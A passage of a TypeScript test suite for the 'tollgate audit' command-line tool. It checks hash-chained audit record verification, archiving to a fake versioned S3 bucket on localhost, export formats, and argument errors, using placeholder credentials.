    expect(r.stdout).toMatch(
      /^✗ billing-api +0 record\(s\) verified; archive: deleted at billing-api#1: the table has no record billing-api#1/m,
    );
    const one = audit(['verify', '--archive', archive, '--pipeline', 'billing-api'], store);
    expect(one.status).toBe(2);
    expect(one.stdout.trimEnd().split('\n')).toHaveLength(3);
  });

  it('an archive that cannot be read is an error (exit 1) naming the file and line; --region alone is refused without an S3 archive', () => {
    const bad = join(tmp, 'bad-archive.jsonl');
    writeFileSync(bad, '{"pipeline":"payments-api","seq":1}\n');
    const r = audit(['verify', '--archive', bad]);
    expect(r.status).toBe(1);
    expect(r.stdout).toBe('');
    expect(r.stderr).toBe(
      `tollgate: ${bad}, line 1: hash: expected a SHA-256 in lower-case hex (64 characters), got nothing\n`,
    );
    const region = audit(['verify', '--archive', bad, '--region', 'eu-west-1']);
    expect(region.status).toBe(1);
    expect(region.stderr).toContain('--region and --profile are for a deployed table');
  });
});

/** An object version the fake bucket holds, or a delete marker. */
interface FakeVersion {
  readonly id: string;
  readonly body?: string;
  readonly marker?: boolean;
}

/**
 * A versioned S3 bucket over HTTP, as the spawned CLI reaches it (AWS_ENDPOINT_URL_S3): ListObjectVersions,
 * GetObject by version id, and PutObject with If-None-Match (412 when the key's current version exists).
 * `unlisted` keys exist but are not listed: written by another writer between the CLI's read and its PUT.
 */
class FakeBucket {
  readonly keys = new Map<string, FakeVersion[]>();
  readonly unlisted = new Set<string>();
  readonly puts: { key: string; headers: IncomingHttpHeaders; body: string; status: number }[] = [];
  readonly requests: string[] = [];
  private n = 0;
  private server: Server | undefined;
  endpoint = '';

  put(key: string, body: string): string {
    const id = `v${++this.n}`;
    this.keys.set(key, [...(this.keys.get(key) ?? []), { id, body }]);
    return id;
  }

  hide(key: string): string {
    const id = `m${++this.n}`;
    this.keys.set(key, [...(this.keys.get(key) ?? []), { id, marker: true }]);
    return id;
  }

  /** The records of every version of every key, de-duplicated by place. */
  records(): Map<string, string> {
    const held = new Map<string, string>();
    for (const versions of this.keys.values())
      for (const v of versions)
        for (const line of (v.body ?? '').split('\n').filter((l) => l !== '')) {
          const r = JSON.parse(line) as AuditRecord;
          held.set(`${r.pipeline}#${r.seq}`, r.hash);
        }
    return held;
  }

  async start(): Promise<this> {
    this.server = createServer((req, res) => {
      const chunks: Buffer[] = [];
      req.on('data', (c: Buffer) => chunks.push(c));
      req.on('end', () => {
        const url = new URL(req.url ?? '/', 'http://localhost');
        this.requests.push(`${req.method} ${url.pathname}${url.search}`);
        const a = this.answer(req.method ?? 'GET', url, req.headers, Buffer.concat(chunks).toString('utf8'));
        res.writeHead(a.status, { 'content-type': 'application/xml', 'x-amz-request-id': 'R', etag: '"e"' });
        res.end(a.body);
      });
    });
    await new Promise<void>((done) => this.server?.listen(0, '127.0.0.1', done));
    this.endpoint = `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
    return this;
  }

  async stop(): Promise<void> {
    await new Promise((done) => this.server?.close(done));
  }

  /** What the spawned CLI needs to reach this bucket, and nothing of this machine's AWS settings. */
  env(): NodeJS.ProcessEnv {
    return {
      AWS_ENDPOINT_URL_S3: this.endpoint,
      AWS_REGION: 'eu-west-1',
      AWS_ACCESS_KEY_ID: 'AKIDEXAMPLE',
      AWS_SECRET_ACCESS_KEY: 'secret',
      AWS_EC2_METADATA_DISABLED: 'true',
      AWS_CONFIG_FILE: join(tmp, 'no-aws-config'),
      AWS_SHARED_CREDENTIALS_FILE: join(tmp, 'no-aws-credentials'),
    };
  }

  private answer(
    method: string,
    url: URL,
    headers: IncomingHttpHeaders,
    raw: string,
  ): { status: number; body: string } {
    const error = (status: number, code: string) => ({
      status,
      body: `<?xml version="1.0" encoding="UTF-8"?>\n<Error><Code>${code}</Code><Message>${code}</Message></Error>`,
    });
    const q = url.searchParams;
    if (method === 'GET' && q.has('versions')) {
      const prefix = q.get('prefix') ?? '';
      const entries = [...this.keys.keys()]
        .filter((k) => k.startsWith(prefix) && !this.unlisted.has(k))
        .sort()
        .flatMap((key) =>
          [...(this.keys.get(key) ?? [])].reverse().map((v, i) => {
            const fields = `<Key>${key}</Key><VersionId>${v.id}</VersionId><IsLatest>${i === 0}</IsLatest><LastModified>2026-11-25T10:00:00.000Z</LastModified>`;
            return v.marker
              ? `<DeleteMarker>${fields}</DeleteMarker>`
              : `<Version>${fields}<ETag>"e"</ETag><Size>1</Size><StorageClass>STANDARD</StorageClass></Version>`;
          }),
        );
      return {
        status: 200,
        body: `<?xml version="1.0" encoding="UTF-8"?>\n<ListVersionsResult xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Name>archive</Name><Prefix>${prefix}</Prefix><MaxKeys>1000</MaxKeys><IsTruncated>false</IsTruncated>${entries.join('')}</ListVersionsResult>`,
      };
    }
    const key = decodeURIComponent(url.pathname.replace(/^\/archive\//, ''));
    const versions = this.keys.get(key) ?? [];
    if (method === 'GET' && q.has('versionId')) {
      const v = versions.find((x) => x.id === q.get('versionId'));
      return v?.body !== undefined ? { status: 200, body: v.body } : error(404, 'NoSuchVersion');
    }
    if (method === 'PUT') {
      // The SDK may send the body aws-chunked, its checksum as a trailer: the records are the chunks' data.
      let body = raw;
      let trailer = '';
      if (headers['x-amz-decoded-content-length'] !== undefined) {
        body = '';
        let rest = raw;
        for (;;) {
          const eol = rest.indexOf('\r\n');
          const size = Number.parseInt(rest.slice(0, eol).split(';')[0] ?? '0', 16);
          if (size === 0) {
            trailer = rest.slice(eol + 2);
            break;
          }
          body += rest.slice(eol + 2, eol + 2 + size);
          rest = rest.slice(eol + 2 + size + 2);
        }
      }
      const current = versions.at(-1);
      const exists = current !== undefined && !current.marker;
      const status = headers['if-none-match'] === '*' && exists ? 412 : 200;
      this.puts.push({ key, headers: { ...headers, trailer }, body, status });
      if (status === 412) return error(412, 'PreconditionFailed');
      this.put(key, body);
      return { status: 200, body: '' };
    }
    return error(400, 'NotImplemented');
  }
}

/** Runs `body` against a started FakeBucket, stopped however the body ends. */
async function withBucket(body: (bucket: FakeBucket) => Promise<void>): Promise<void> {
  const bucket = await new FakeBucket().start();
  try {
    await body(bucket);
  } finally {
    await bucket.stop();
  }
}

describe('tollgate audit verify --archive s3:// (every version)', () => {
  it('reads every version of the bucket: an object hidden behind a delete marker is still compared, and reported (hidden, exit 2)', async () => {
    await withBucket(async (bucket) => {
      const records = demoRecords();
      const keys = archiveObjects(records).map((o) => {
        bucket.put(o.key, o.body);
        return o;
      });
      const intact = await tollgateAsync(
        ['audit', 'verify', '--archive', 's3://archive', '--store', STORE],
        bucket.env(),
      );
      expect(intact.stderr).toBe('');
      expect(intact.status).toBe(0);
      expect(intact.stdout).toContain(
        `Archive: 36 record(s) in ${keys.length} object(s) of s3://archive/records/`,
      );
      // A lifecycle expiration rule (Object Lock allows it; the bucket policy's delete deny is not asked) puts a
      // delete marker on payments-api's object: its records vanish from a listing and from Athena.
      const payments = keys.find((o) => o.pipeline === 'payments-api')!;
      const marker = bucket.hide(payments.key);
      const r = await tollgateAsync(
        ['audit', 'verify', '--archive', 's3://archive', '--store', STORE],
        bucket.env(),
      );
      expect(r.status).toBe(2);
      expect(r.stdout).toMatch(
        new RegExp(
          `^✗ payments-api +4 record\\(s\\) verified; archive: hidden at payments-api#1: s3://archive/${payments.key.replace(/[.]/g, '\\.')} is hidden behind a delete marker \\(version ${marker}`,
          'm',
        ),
      );
      // Its records are still read: the table's match them, and no other chain fails.
      expect(r.stdout).toContain('Archive: 36 record(s)');
      expect(r.stdout.trimEnd().split('\n').at(-1)).toMatch(
        /^FAILED: 1 of 10 chain\(s\) do not verify; the first bad record is payments-api#1 \(hidden\)/,
      );
      // Every object read by its version id.
      expect(
        bucket.requests.filter(
          (u) => u.startsWith('GET') && !u.includes('versionId=') && !u.includes('versions'),
        ),
      ).toEqual([]);
    });
  }, 60_000);
});

describe('tollgate audit verify --archive s3://BUCKET/PREFIX', () => {
  it('s3://BUCKET/records, without its slash, is the whole archive: a gap fails (not-archived), as with records/ or none', async () => {
    await withBucket(async (bucket) => {
      // billing-api#2 never reached the archive: #1 and #3 did.
      const records = demoRecords().filter((r) => !(r.pipeline === 'billing-api' && r.seq === 2));
      for (const o of archiveObjects(records)) bucket.put(o.key, o.body);
      const verify = (uri: string) =>
        tollgateAsync(['audit', 'verify', '--archive', uri, '--store', STORE], bucket.env());
      for (const uri of ['s3://archive', 's3://archive/records/', 's3://archive/records']) {
        const r = await verify(uri);
        expect(r.stderr, uri).toBe('');
        expect(r.status, uri).toBe(2);
        expect(r.stdout, uri).toMatch(
          /^✗ billing-api +4 record\(s\) verified; archive: not-archived at billing-api#2: /m,
        );
        expect(r.stdout, uri).toMatch(
          /^Archive: 35 record\(s\) in \d+ object\(s\) of s3:\/\/archive\/records\/$/m,
        );
      }
      // A prefix is a folder of keys: `records` lists nothing of `records-old/` beside it.
      bucket.put('records-old/notes.jsonl', 'not a record\n');
      const beside = await verify('s3://archive/records');
      expect(beside.stderr).toBe('');
      expect(beside.status).toBe(2);
      // One that names no folder of the bucket lists none, and says how it was read.
      const partial = await verify('s3://archive/rec');
      expect(partial.status).toBe(1);
      expect(partial.stdout).toBe('');
      expect(partial.stderr).toBe(
        'tollgate: --archive s3://archive/rec: no .jsonl objects under s3://archive/rec/ (expected the archive bucket, s3://BUCKET, or a folder of it such as s3://BUCKET/records/date=2026-11-25/: the archive writes records/date=YYYY-MM-DD/*.jsonl; a PREFIX names a folder, so "rec" was read as "rec/")\n',
      );
      // A day is a folder; the start of a date is a prefix of the days, a partial copy whose gaps are counted.
      for (const uri of ['s3://archive/records/date=2026-11-25', 's3://archive/records/date=2026-11']) {
        const part = await verify(uri);
        expect(part.stderr, uri).toBe('');
        expect(part.status, uri).toBe(0);
        expect(part.stdout, uri).toMatch(/^Archive: 35 record\(s\) .* \(a partial copy: /m);
      }
      // Read as given, a partial copy too: one object, by the key verify's problems and Athena's "$path" name
      // it by, and a pipeline's objects of one day, by the start of their names in the day's folder.
      const payments = archiveObjects(records).filter((o) => o.key.includes('/payments-api-'));
      expect(payments.length).toBeGreaterThan(0);
      const inPayments = (n: number) =>
        expect.stringMatching(new RegExp(`^Archive: ${n} record\\(s\\) `, 'm'));
      const paymentRecords = records.filter((r) => r.pipeline === 'payments-api').length;
      for (const [uri, n] of [
        [`s3://archive/${payments[0]!.key}`, payments[0]!.body.trimEnd().split('\n').length],
        ['s3://archive/records/date=2026-11-25/payments-api', paymentRecords],
      ] as const) {
        const part = await verify(uri);
        expect(part.stderr, uri).toBe('');
        expect(part.status, uri).toBe(0);
        expect(part.stdout, uri).toEqual(inPayments(n));
        expect(part.stdout, uri).toMatch(/^Archive: .* \(a partial copy: /m);
        expect(part.stdout, uri).not.toMatch(/not-archived/);
      }
    });
  }, 60_000);
});

describe('tollgate audit archive', () => {
  it('writes to the bucket the records it lacks, as the archive function does; run again it writes nothing', async () => {
    await withBucket(async (bucket) => {
      const records = demoRecords();
      // What the function archived: every chain but billing-api (its batch dead-lettered), and payments-api's
      // first two records (a batch of its own) but not the next two.
      const archived = records.filter(
        (r) => r.pipeline !== 'billing-api' && !(r.pipeline === 'payments-api' && r.seq > 2),
      );
      for (const o of archiveObjects(archived)) bucket.put(o.key, o.body);
      const before = bucket.keys.size;
      const store = copyOfStore();
      const run = (...args: string[]) =>
        tollgateAsync(
          ['audit', 'archive', '--bucket', 's3://archive', '--store', store, ...args],
          bucket.env(),
        );

      const dry = await run('--dry-run');
      expect(dry.stderr).toBe('');
      expect(dry.status).toBe(0);
      expect(bucket.puts).toEqual([]);
      expect(dry.stdout).toMatch(
        /^would write s3:\/\/archive\/records\/date=2026-11-25\/billing-api-000000000001-000000000004-[0-9a-f]{16}\.jsonl \(billing-api #1–4, 4 record\(s\)\)$/m,
      );
      expect(dry.stdout).toMatch(
        /^payments-api: 2 record\(s\) to write in 1 object\(s\), 2 already archived$/m,
      );
      expect(dry.stdout.trimEnd().split('\n').at(-1)).toBe(
        'Dry run: 6 of 36 record(s) would be written in 2 object(s) to s3://archive/records/; 30 already archived; nothing written',
      );

      const r = await run();
      expect(r.stderr).toBe('');
      expect(r.status).toBe(0);
      expect(r.stdout).toMatch(/^billing-api: 4 record\(s\) written in 1 object\(s\), 0 already archived$/m);
      expect(r.stdout).toMatch(/^payments-api: 2 record\(s\) written in 1 object\(s\), 2 already archived$/m);
      expect(r.stdout).toMatch(/^search-api: 0 record\(s\) written in 0 object\(s\), 4 already archived$/m);
      expect(r.stdout.trimEnd().split('\n').at(-1)).toBe(
        'OK: 6 of 36 record(s) written in 2 object(s) to s3://archive/records/; 30 already archived',
      );
      // The function's objects: named by their records, one line each in canonical form, create-only, checksummed.
      const expected = archiveObjects(
        records.filter((r) => r.pipeline === 'billing-api' || (r.pipeline === 'payments-api' && r.seq > 2)),
      );
      expect(bucket.puts.map((p) => [p.key, p.body, p.status])).toEqual(
        expected.map((o) => [o.key, o.body, 200]),
      );
      for (const [i, put] of bucket.puts.entries()) {
        expect(put.headers['if-none-match']).toBe('*');
        const sha = createHash('sha256').update(expected[i]!.body).digest('base64');
        const sent =
          put.headers['x-amz-checksum-sha256'] ??
          String(put.headers.trailer).match(/x-amz-checksum-sha256:(\S+)/)?.[1];
        expect(sent).toBe(sha);
      }
      expect(bucket.keys.size).toBe(before + 2);
      // Now the archive holds every record, once.
      expect(new Map([...bucket.records()].sort())).toEqual(
        new Map(records.map((x) => [`${x.pipeline}#${x.seq}`, x.hash] as const).sort()),
      );
      const verify = await tollgateAsync(
        ['audit', 'verify', '--archive', 's3://archive', '--store', store],
        bucket.env(),
      );
      expect(verify.status).toBe(0);

      // Again: everything is there, nothing is written, nothing changes.
      const again = await run();
      expect(again.status).toBe(0);
      expect(bucket.puts).toHaveLength(2);
      expect(bucket.keys.size).toBe(before + 2);
      expect(again.stdout.trimEnd().split('\n').at(-1)).toBe(
        'OK: 0 of 36 record(s) written in 0 object(s) to s3://archive/records/; 36 already archived',
      );
    });
  }, 120_000);

  it('never writes a record the archive cannot hold (a malformed hash): locked in, it would make every read of the archive fail', async () => {
    await withBucket(async (bucket) => {
      const store = await copyWithEdit('payments-api', 2, 'hash', 'NOT-A-HASH');
      const r = await tollgateAsync(
        ['audit', 'archive', '--bucket', 's3://archive', '--store', store, '--pipeline', 'payments-api'],
        bucket.env(),
      );
      expect(r.status).toBe(1);
      expect(r.stderr).toContain(
        'tollgate: payments-api#2 not written: hash: expected a SHA-256 in lower-case hex (64 characters), got "NOT-A-HASH"',
      );
      expect(r.stdout.trimEnd().split('\n').at(-1)).toMatch(
        /^INCOMPLETE: 3 of 4 record\(s\) written .*; 1 not written \(not archivable\)$/,
      );
      expect([...bucket.records()].map(([k]) => k).sort()).toEqual([
        'payments-api#1',
        'payments-api#3',
        'payments-api#4',
      ]);
    });
  }, 120_000);

  it('a record whose time is no time is named, even with --since (no range holds it: it was skipped unsaid)', async () => {
    await withBucket(async (bucket) => {
      const store = await copyWithEdit('payments-api', 2, 'time', 'yesterday');
      const r = await tollgateAsync(
        [
          'audit',
          'archive',
          '--bucket',
          's3://archive',
          '--store',
          store,
          '--pipeline',
          'payments-api',
          '--since',
          '2026-01-01',
        ],
        bucket.env(),
      );
      expect(r.status).toBe(1);
      expect(r.stderr).toContain(
        'payments-api#2 cannot be archived: its time "yesterday" is not an ISO-8601 instant',
      );
    });
  }, 120_000);

  it('an object written meanwhile (412) is already there; --pipeline and --since narrow; a record the bucket holds otherwise is not written (exit 1)', async () => {
    await withBucket(async (bucket) => {
      const records = demoRecords();
      const ledger = records.filter((r) => r.pipeline === 'ledger-api');
      // Another writer (the function's retry) puts ledger-api's object after the CLI read the bucket.
      const [object] = archiveObjects(ledger);
      bucket.put(object!.key, object!.body);
      bucket.unlisted.add(object!.key);
      const store = copyOfStore();
      const r = await tollgateAsync(
        [
          'audit',
          'archive',
          '--bucket',
          's3://archive/',
          '--pipeline',
          'ledger-api',
          '--since',
          '2026-11-25',
          '--store',
          store,
        ],
        bucket.env(),
      );
      expect(r.stderr).toBe('');
      expect(r.status).toBe(0);
      expect(bucket.puts.map((p) => [p.key, p.status])).toEqual([[object!.key, 412]]);
      expect(r.stdout).toBe(
        'ledger-api: 0 record(s) written in 0 object(s), 4 already archived\nOK: 0 of 4 record(s) written in 0 object(s) to s3://archive/records/; 4 already archived\n',
      );
      // --until before the records: nothing of the chain to archive.
      const none = await tollgateAsync(
        [
          'audit',
          'archive',
          '--bucket',
          's3://archive',
          '--pipeline',
          'ledger-api',
          '--until',
          '2026-11-01',
          '--store',
          store,
        ],
        bucket.env(),
      );
      expect(none.status).toBe(0);
      expect(none.stdout).toContain('OK: 0 of 0 record(s)');

      // The bucket holds another search-api#2 than the table: it is not written over, and the run fails.
      const search = records.filter((x) => x.pipeline === 'search-api');
      const other = { ...search[1]!, summary: 'APPROVE by policy baseline', hash: 'f'.repeat(64) };
      for (const o of archiveObjects([other])) bucket.put(o.key, o.body);
      const conflict = await tollgateAsync(
        ['audit', 'archive', '--bucket', 's3://archive', '--pipeline', 'search-api', '--store', store],
        bucket.env(),
      );
      expect(conflict.status).toBe(1);
      expect(conflict.stderr).toMatch(
        /^tollgate: search-api#2 not written: the archive holds another record there \(ffffffffffff…, the table's is [0-9a-f]{12}…\)/m,
      );
      expect(conflict.stdout).toMatch(
        /^search-api: 3 record\(s\) written in 1 object\(s\), 0 already archived$/m,
      );
      expect(
        bucket.puts
          .at(-1)
          ?.body.split('\n')
          .filter(Boolean)
          .map((l) => (JSON.parse(l) as AuditRecord).seq),
      ).toEqual([1, 3, 4]);
    });
  }, 120_000);

  it('refuses a bucket that is not s3://BUCKET, and requires --bucket', () => {
    const bad = audit(['archive', '--bucket', 'tollgate-archive']);
    expect(bad.status).toBe(1);
    expect(bad.stdout).toBe('');
    expect(bad.stderr).toMatch(
      /^tollgate: --bucket tollgate-archive: expected s3:\/\/BUCKET, the archive bucket/,
    );
    const prefix = audit(['archive', '--bucket', 's3://tollgate-archive/elsewhere/']);
    expect(prefix.status).toBe(1);
    expect(prefix.stderr).toMatch(
      /^tollgate: --bucket s3:\/\/tollgate-archive\/elsewhere\/: the archive writes under records\/ only/,
    );
    const upper = audit(['archive', '--bucket', 's3://Tollgate-Archive']);
    expect(upper.status).toBe(1);
    expect(upper.stderr).toMatch(/"Tollgate-Archive" is not an S3 bucket name \(3–63 lower-case letters/);
    const missing = audit(['archive']);
    expect(missing.status).toBe(1);
    expect(missing.stderr).toMatch(/required option '--bucket <s3-uri>' not specified/);
  });
});

describe('tollgate audit export', () => {
  it('jsonl: one record per line, oldest first; --since/--until select', () => {
    const r = audit(['export', '--page-size', '3']);
    expect(r.status).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(36);
    const records = lines.map((l) => JSON.parse(l) as AuditRecord);
    expect(records[0]).toMatchObject({ pipeline: 'batch-reports', seq: 1 });
    expect(records.at(-1)).toMatchObject({ pipeline: 'reports-exporter', seq: 2 });
    const times = records.map((x) => x.time);
    expect(times).toEqual([...times].sort());
    const range = audit(['export', '--since', '2026-11-25T09:01:00Z', '--until', '2026-11-25T09:05:00Z']);
    expect(range.stdout.trimEnd().split('\n')).toHaveLength(6);
  });

  it('csv: a header and a line per record; the same records as jsonl', () => {
    const r = audit([
      'export',
      '--format',
      'csv',
      '--since',
      '2026-11-25',
      '--until',
      '2026-11-25',
      '--page-size',
      '5',
    ]);
    expect(r.status).toBe(0);
    const rows = parseCsv(r.stdout);
    expect(rows).toHaveLength(37);
    expect(rows.slice(1).map((row) => `${row[1]}#${row[2]}`)).toEqual(
      audit(['export'])
        .stdout.trimEnd()
        .split('\n')
        .map((l) => {
          const x = JSON.parse(l) as AuditRecord;
          return `${x.pipeline}#${x.seq}`;
        }),
    );
  });

  it('streams: with more records than pages, every page written (one line per record)', async () => {
    const store = copyOfStore();
    const added = 120;
    await onStore(store, async (db) => {
      const writer = new DynamoStore(db.client, TABLE_NAME);
      let head = await writer.auditHead('billing-api');
      const first = (
        await db.client.send(
          new GetCommand({ TableName: TABLE_NAME, Key: { pk: auditPk('billing-api'), sk: auditSk(1) } }),
        )
      ).Item?.record as AuditRecord;
      for (let i = 0; i < added; i++) {
        const record = chainRecord(
          { ...first, time: new Date(Date.parse('2026-11-25T11:00:00Z') + i * 1000).toISOString() },
          'billing-api',
          head,
        );
        await writer.appendAudit(record);
        head = record;
      }
    });
    const r = audit(['export', '--page-size', '7'], store);
    expect(r.status).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines).toHaveLength(36 + added);
    expect(new Set(lines).size).toBe(lines.length);
    const csv = audit(['export', '--format', 'csv', '--page-size', '7', '--pipeline', 'billing-api'], store);
    expect(csv.stdout.split('\r\n').length - 2).toBe(4 + added);
    const list = ids(
      ['--pipeline', 'billing-api', '--page-size', '7', '--since', '2026-11-25T11:00:00Z'],
      store,
    );
    expect(list).toHaveLength(added);
    expect(audit(['verify', '--pipeline', 'billing-api'], store).stdout).toContain(
      `${4 + added} record(s) verified`,
    );
  }, 60_000);
});

describe('tollgate audit: errors, help, and a deployed table', () => {
  it('errors are "tollgate: …" on stderr, exit 1, nothing on stdout', () => {
    const aFile = join(tmp, 'a-file');
    writeFileSync(aFile, '');
    const empty = join(tmp, 'empty');
    mkdirSync(empty, { recursive: true });
    const cases: [string[], RegExp][] = [
      [['list', '--store', join(tmp, 'none')], /^tollgate: no local store in .*none: run "npm start"/],
      [
        ['list', '--store', aFile],
        /^tollgate: --store .*a-file: expected a folder \(the local store\); got a file/,
      ],
      [
        ['list', '--store', empty],
        /^tollgate: no local store in .*empty \(the folder holds no store's database\)/,
      ],
      [['list', '--since', 'yesterday'], /^tollgate: --since "yesterday": expected an ISO-8601 date/],
      [['list', '--until', '2026-11-25T12:00:00'], /^tollgate: --until "2026-11-25T12:00:00": expected/],
      [
        ['list', '--since', '2026-11-26', '--until', '2026-11-25'],
        // The whole-day rule moves --until to the next midnight: both what was typed and what it was read as.
        /^tollgate: --since 2026-11-26 \(2026-11-26T00:00:00\.000Z\) is not before --until 2026-11-25 \(the end of that day, 2026-11-26T00:00:00\.000Z\): nothing can match\n$/,
      ],
      [
        ['export', '--since', '2026-11-25T12:00:00.000Z', '--until', '2026-11-25T12:00:00+00:00'],
        /^tollgate: --since 2026-11-25T12:00:00\.000Z is not before --until 2026-11-25T12:00:00\+00:00 \(2026-11-25T12:00:00\.000Z\): nothing/,
      ],
      [
        ['list', '--digest', 'sha256:3f9a1c0d8e2b'],
        /^tollgate: --digest: expected a whole image digest, sha256: and 64 lowercase hex digits \(the IMAGE column of "tollgate audit list" shows only the first 12: .*\); got "sha256:3f9a1c0d8e2b" \(12 hex digit\(s\)\)\n$/,
      ],
      [
        ['export', '--digest', PAYMENTS_DIGEST.toUpperCase().replace('SHA256', 'sha256')],
        /^tollgate: --digest: expected .*; got "sha256:3F9A1C0D8E2B.*" \(64 hex digit\(s\), upper case\)\n$/,
      ],
      [['list', '--digest', '3f9a1c0d8e2b'], /^tollgate: --digest: expected .*; got "3f9a1c0d8e2b"\n$/],
      [['list', '--pipelin', 'x'], /^tollgate: unknown option '--pipelin' \(Did you mean --pipeline\?\)\n$/],
      // A name no pipeline can have (a paste's trailing space) would read as "this pipeline has no records".
      ...['list', 'export', 'verify'].map((command): [string[], RegExp] => [
        [command, '--pipeline', 'payments-api '],
        /^tollgate: --pipeline: expected a pipeline name \(letters, digits and \. @ _ -, at most 100\); got "payments-api "\n$/,
      ]),
      [['list', '--outcome', 'MAYBE'], /^tollgate: option '--outcome <outcome>' argument 'MAYBE' is invalid/],
      [
        ['list', '--limit', '0'],
        /^tollgate: option '--limit <n>' argument '0' is invalid. --limit takes a whole number/,
      ],
      [
        ['list', '--region', 'eu-west-1'],
        /^tollgate: --region and --profile are for a deployed table: add --table NAME/,
      ],
      [['list', '--bogus'], /^tollgate: unknown option '--bogus'/],
      // --store would go unread: an auditor would believe the local store was searched.
      ...['list', 'show payments-api#1', 'verify', 'export'].map((command): [string[], RegExp] => [
        [...command.split(' '), '--table', 'Tollgate-Table', '--store', STORE],
        /^tollgate: option '--table <name>' cannot be used with option '--store <dir>'\n$/,
      ]),
      [['export', '--format', 'xlsx'], /^tollgate: option '--format <format>' argument 'xlsx' is invalid/],
      [['show'], /^tollgate: missing required argument 'record'/],
    ];
    for (const [args, message] of cases) {
      const r = tollgate(['audit', ...args, ...(args.includes('--store') ? [] : ['--store', STORE])]);
      expect(r.status, args.join(' ')).toBe(1);
      expect(r.stdout, args.join(' ')).toBe('');
      expect(r.stderr, args.join(' ')).toMatch(message);
    }
    // A read writes nothing: the empty folder is still empty.
    expect(readdirSync(empty)).toEqual([]);
  });

  it('a local store another process holds (a running demo): exit 1, said so', async () => {
    const store = copyOfStore();
    const db = await startLocalDynamo({ path: store });
    try {
      const r = await tollgateAsync(['audit', 'list', '--store', store], {});
      expect(r.status).toBe(1);
      expect(r.stdout).toBe('');
      expect(r.stderr).toBe(
        `tollgate: the local store in ${store} is in use by another process (a tollgate demo or simulate?); try again when it ends\n`,
      );
    } finally {
      await db.close();
    }
  });

  it('--help documents every flag, with examples', () => {
    const group = tollgate(['audit', '--help']);
    expect(group.status).toBe(0);
    for (const command of ['list', 'show', 'verify', 'export', 'archive'])
      expect(group.stdout).toContain(`  ${command} `);
    expect(group.stdout).toContain('Examples:');
    const flags: Record<string, string[]> = {
      list: [
        '--pipeline',
        '--since',
        '--until',
        '--outcome',
        '--digest',
        '--repository',
        '--reviewer',
        '--vulnerability',
        '--type',
        '--format',
        '--limit',
        '--order',
        '--stats',
      ],
      show: ['<record>', '--format'],
      verify: ['--pipeline', '--format', 'Exit status:'],
      export: ['--since', '--until', '--format', 'jsonl', 'csv', '--pipeline'],
      archive: ['--bucket', '--dry-run', '--pipeline', '--since', '--until', 'Exit status:', 'If-None-Match'],
    };
    for (const [command, wanted] of Object.entries(flags)) {
      const help = tollgate(['audit', command, '--help']);
      expect(help.status).toBe(0);
      for (const flag of [
        ...wanted,
        '--store',
        '--table',
        '--region',
        '--profile',
        'Examples:',
        `tollgate audit ${command}`,
      ]) {
        expect(help.stdout, `${command}: ${flag}`).toContain(flag);
      }
    }
    expect(tollgate(['--help']).stdout).toMatch(/^ {2}audit /m);
  });

  it("every command's help says where it reads from, with no template placeholder left unfilled", () => {
    for (const command of ['list', 'show', 'verify', 'export', 'archive']) {
      const help = tollgate(['audit', command, '--help']);
      expect(help.status).toBe(0);
      expect(help.stdout, command).toMatch(/^Source:\n {2}By default the local store/m);
      expect(help.stdout, command).not.toMatch(/\$\{?[A-Z_]+\}?/);
    }
  });

  it('verify reads the registry once per run, not once per chain (each of which read every head)', async () => {
    const store = copyOfStore();
    const db = await startLocalDynamo({ path: store });
    // Between the CLI and the table: every request passed on, the registry's Queries counted.
    let registryReads = 0;
    const proxy = await dynamoProxy(db.endpoint, (target, body) => {
      if (target.endsWith('.Query') && body.includes('"AUDIT-PIPELINES"')) registryReads++;
      return undefined;
    });
    try {
      const env = {
        AWS_ENDPOINT_URL_DYNAMODB: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
        AWS_ACCESS_KEY_ID: 'AKIDAUDIT',
        AWS_SECRET_ACCESS_KEY: 'secret',
        AWS_EC2_METADATA_DISABLED: 'true',
      };
      const r = await tollgateAsync(['audit', 'verify', '--table', TABLE_NAME, '--region', 'eu-west-1'], env);
      expect(r.stderr).toBe('');
      expect(r.stdout).toContain('OK: 36 record(s) in 10 chain(s) verified');
      expect(registryReads).toBe(1);
    } finally {
      await new Promise((resolve) => proxy.close(resolve));
      await db.close();
    }
  }, 60_000);

  it('--table reads a table through the SDK default chain: --region, --profile, AWS_PROFILE', async () => {
    const store = copyOfStore();
    const db = await startLocalDynamo({ path: store });
    try {
      const config = join(tmp, 'aws-config');
      const credentials = join(tmp, 'aws-credentials');
      writeFileSync(config, '[profile audit]\nregion = eu-west-1\n');
      writeFileSync(credentials, '[audit]\naws_access_key_id = AKIDAUDIT\naws_secret_access_key = secret\n');
      const env = {
        AWS_ENDPOINT_URL_DYNAMODB: db.endpoint,
        AWS_CONFIG_FILE: config,
        AWS_SHARED_CREDENTIALS_FILE: credentials,
        AWS_EC2_METADATA_DISABLED: 'true',
      };
      const table = ['--table', TABLE_NAME];
      const viaProfile = await tollgateAsync(
        [
          'audit',
          'list',
          ...table,
          '--profile',
          'audit',
          '--outcome',
          'REJECT',
          '--type',
          'decision',
          '--format',
          'json',
        ],
        env,
      );
      expect(viaProfile.stderr).toBe('');
      expect(viaProfile.status).toBe(0);
      expect((JSON.parse(viaProfile.stdout) as AuditRecord[]).map((r) => `${r.pipeline}#${r.seq}`)).toEqual([
        'search-api#1',
        'payments-api#1',
      ]);
      const viaEnv = await tollgateAsync(['audit', 'verify', ...table, '--region', 'us-east-1'], {
        ...env,
        AWS_PROFILE: 'audit',
      });
      expect(viaEnv.status).toBe(0);
      expect(viaEnv.stdout).toContain('OK: 36 record(s) in 10 chain(s) verified');
      const noTable = await tollgateAsync(['audit', 'list', '--table', 'nope', '--profile', 'audit'], env);
      expect(noTable.status).toBe(1);
      expect(noTable.stdout).toBe('');
      expect(noTable.stderr).toMatch(/^tollgate: table nope \(eu-west-1\) was not found|^tollgate: .*nope/);
      const noProfile = await tollgateAsync(
        ['audit', 'list', ...table, '--profile', 'nobody', '--region', 'eu-west-1'],
        env,
      );
      expect(noProfile.status).toBe(1);
      expect(noProfile.stdout).toBe('');
      expect(noProfile.stderr).toMatch(/^tollgate: /);
    } finally {
      await db.close();
    }
  }, 60_000);
});

describe('parseTime', () => {
  const now = new Date('2026-11-25T12:00:00Z');
  it('dates, timestamps with a zone, and times ago', () => {
